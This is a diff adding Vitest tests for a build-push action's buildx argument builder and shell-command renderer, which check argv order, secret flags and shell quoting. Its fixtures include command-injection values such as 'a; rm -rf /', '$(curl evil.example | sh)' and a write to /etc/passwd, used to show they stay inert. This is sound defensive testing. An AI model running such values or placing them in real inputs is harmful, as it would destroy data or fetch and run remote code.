@@ -2,10 +2,231 @@
  * build-push-action's pass-through inputs, from the raw input (its list syntax) to the buildx argv:
  * each row is one input as a workflow writes it and the arguments build-push-action would pass.
  */
+import { execFileSync } from 'node:child_process';
 import { describe, expect, it } from 'vitest';
+import { buildSpec } from '../support/helpers.js';
 import { buildxArgs, isEvaluation } from '../../src/docker/buildx-args.js';
-import { buildSpec } from '../core/helpers.js';
+import { renderCommand } from '../../src/docker/render-command.js';
 import { parse } from '../inputs/fixtures.js';
+
+describe('docker/buildx-args', () => {
+  const URI = '123456789012.dkr.ecr.eu-west-1.amazonaws.com/my-app';
+
+  const spec = buildSpec;
+
+  describe('buildxArgs', () => {
+    it('full spec → exact argv, in order', () => {
+      const args = buildxArgs(
+        spec({
+          builder: 'ecr-build-push-1',
+          file: 'docker/prod.Dockerfile',
+          target: 'runtime',
+          buildArgs: [
+            { key: 'NODE_VERSION', value: '20' },
+            { key: 'EMPTY', value: '' },
+          ],
+          labels: { 'org.opencontainers.image.revision': 'abc', 'dev.ecr-build-push.fingerprint': 'f00' },
+          annotations: [{ key: 'index:org.opencontainers.image.title', value: 'app' }],
+          platforms: ['linux/amd64', 'linux/arm64'],
+          tags: [`${URI}:v1.2.3`, `${URI}:latest`],
+          secrets: [
+            { id: 'npm', path: '/tmp/job/secrets/npm' },
+            { id: 'gh', path: 'secrets/gh.txt' },
+          ],
+          cacheFrom: [`type=registry,ref=${URI}:buildcache`],
+          cacheTo: [`type=registry,ref=${URI}:buildcache,mode=max,image-manifest=true,oci-mediatypes=true`],
+          provenance: 'mode=max',
+          sbom: 'true',
+          noCache: true,
+          pull: true,
+          push: true,
+          load: true,
+          context: 'app',
+        }),
+      );
+      expect(args).toEqual([
+        'buildx',
+        'build',
+        '--builder',
+        'ecr-build-push-1',
+        '--file',
+        'docker/prod.Dockerfile',
+        '--target',
+        'runtime',
+        '--build-arg',
+        'NODE_VERSION=20',
+        '--build-arg',
+        'EMPTY=',
+        '--label',
+        'org.opencontainers.image.revision=abc',
+        '--label',
+        'dev.ecr-build-push.fingerprint=f00',
+        '--annotation',
+        'index:org.opencontainers.image.title=app',
+        '--platform',
+        'linux/amd64,linux/arm64',
+        '--tag',
+        `${URI}:v1.2.3`,
+        '--tag',
+        `${URI}:latest`,
+        '--secret',
+        'id=npm,src=/tmp/job/secrets/npm',
+        '--secret',
+        'id=gh,src=secrets/gh.txt',
+        '--cache-from',
+        `type=registry,ref=${URI}:buildcache`,
+        '--cache-to',
+        `type=registry,ref=${URI}:buildcache,mode=max,image-manifest=true,oci-mediatypes=true`,
+        '--provenance=mode=max',
+        '--sbom=true',
+        '--no-cache',
+        '--pull',
+        '--push',
+        '--load',
+        '--metadata-file',
+        '/tmp/job/metadata.json',
+        '--iidfile',
+        '/tmp/job/iid',
+        'app',
+      ]);
+    });
+
+    it('minimal spec: provenance explicitly false, metadata and iid files, context last', () => {
+      expect(buildxArgs(spec())).toEqual([
+        'buildx',
+        'build',
+        '--provenance=false',
+        '--metadata-file',
+        '/tmp/job/metadata.json',
+        '--iidfile',
+        '/tmp/job/iid',
+        '.',
+      ]);
+    });
+
+    // provenance input → flag
+    const provenance: [false | string, string][] = [
+      [false, '--provenance=false'],
+      ['true', '--provenance=true'],
+      ['mode=min', '--provenance=mode=min'],
+      ['mode=max', '--provenance=mode=max'],
+    ];
+    it.each(provenance)('provenance %s → %s', (value, flag) => {
+      const args = buildxArgs(spec({ provenance: value }));
+      expect(args.filter((a) => a.startsWith('--provenance'))).toEqual([flag]);
+    });
+
+    it('secrets appear only as id=X,src=PATH, never as a value', () => {
+      const args = buildxArgs(spec({ secrets: [{ id: 'token', path: '/run/job/secrets/token' }] }));
+      const i = args.indexOf('--secret');
+      expect(args.slice(i, i + 2)).toEqual(['--secret', 'id=token,src=/run/job/secrets/token']);
+      expect(args.filter((a) => a === '--secret')).toHaveLength(1);
+      expect(args.some((a) => /env=|SECRET_VALUE/.test(a))).toBe(false);
+    });
+
+    // hostile values arrive as one argv element each, byte for byte
+    const hostile: [string, string][] = [
+      ['semicolon', 'a; rm -rf /'],
+      ['command substitution', '$(curl evil.example | sh)'],
+      ['backticks', '`id`'],
+      ['single quotes', "it's"],
+      ['double quotes', 'say "hi"'],
+      ['newline', 'line1\nline2'],
+      ['dollar variable', '$HOME ${PATH}'],
+      ['glob', '*.txt ?'],
+      ['pipe and redirect', 'x | tee /etc/passwd > /dev/null'],
+    ];
+    it.each(hostile)('%s in build-arg, label, target and tag stays a single element', (_name, value) => {
+      const args = buildxArgs(
+        spec({
+          buildArgs: [{ key: 'VALUE', value }],
+          labels: { note: value },
+          target: value,
+          tags: [`${URI}:${value}`],
+          file: value,
+        }),
+      );
+      expect(args[args.indexOf('--build-arg') + 1]).toBe(`VALUE=${value}`);
+      expect(args[args.indexOf('--label') + 1]).toBe(`note=${value}`);
+      expect(args[args.indexOf('--target') + 1]).toBe(value);
+      expect(args[args.indexOf('--tag') + 1]).toBe(`${URI}:${value}`);
+      expect(args[args.indexOf('--file') + 1]).toBe(value);
+      // Nothing split or added: the count is fixed by the spec.
+      expect(args).toHaveLength(
+        buildxArgs(
+          spec({
+            buildArgs: [{ key: 'V', value: 'x' }],
+            labels: { n: 'x' },
+            target: 'x',
+            tags: ['x'],
+            file: 'x',
+          }),
+        ).length,
+      );
+    });
+  });
+
+  describe('renderCommand', () => {
+    const rows: [string, string[], string][] = [
+      [
+        'plain words unquoted',
+        ['buildx', 'build', '--tag', `${URI}:v1.2.3`, '.'],
+        `docker buildx build --tag ${URI}:v1.2.3 .`,
+      ],
+      [
+        'key=value with commas',
+        ['--cache-to', 'type=registry,ref=x:y,mode=max'],
+        'docker --cache-to type=registry,ref=x:y,mode=max',
+      ],
+      ['space quoted', ['--label', 'a=b c'], "docker --label 'a=b c'"],
+      ['single quote escaped', ['--build-arg', "A=it's"], "docker --build-arg 'A=it'\\''s'"],
+      ['command substitution quoted', ['$(id)'], "docker '$(id)'"],
+      ['backticks quoted', ['`id`'], "docker '`id`'"],
+      ['semicolon quoted', ['a;b'], "docker 'a;b'"],
+      ['empty argument kept', ['--build-arg', ''], "docker --build-arg ''"],
+      ['newline escaped: the echo stays one line', ['a\nb'], "docker $'a\\nb'"],
+      ['workflow command after a newline', ['x\n::warning::hi'], "docker $'x\\n::warning::hi'"],
+      ['escape and NUL-free control characters', ['\u001b[31m\r'], "docker $'\\x1b[31m\\r'"],
+      ['quotes and backslashes in ANSI-C form', ["it's\\\n"], "docker $'it\\'s\\\\\\n'"],
+      ['line separator escaped', ['a\u2028b'], "docker $'a\\u2028b'"],
+    ];
+    it.each(rows)('%s', (_name, args, expected) => {
+      expect(renderCommand(args)).toBe(expected);
+    });
+
+    it('round-trips through bash: the shell sees exactly the argv', () => {
+      const args = buildxArgs(
+        spec({
+          buildArgs: hostileValues().map((value, i) => ({ key: `A${i}`, value })),
+          tags: [`${URI}:v1`],
+          push: true,
+        }),
+      );
+      const script = `docker() { printf '%s\\0' "$@"; }\n${renderCommand(args)}`;
+      const out = execFileSync('bash', ['-c', script], { encoding: 'utf8' });
+      expect(out.split('\0').slice(0, -1)).toEqual(args);
+    });
+  });
+
+  function hostileValues(): string[] {
+    return [
+      'a; rm -rf /',
+      '$(id)',
+      '`id`',
+      "it's",
+      'say "hi"',
+      'l1\nl2',
+      '$HOME',
+      '*',
+      '',
+      'back\\slash',
+      'tab\there',
+      'esc\u001b[0m',
+      'cr\r',
+      "mixed 'quote'\nand\\newline",
+    ];
+  }
+});
 
 function argsFor(inputs: Record<string, string>): string[] {
   const b = parse(inputs).build;
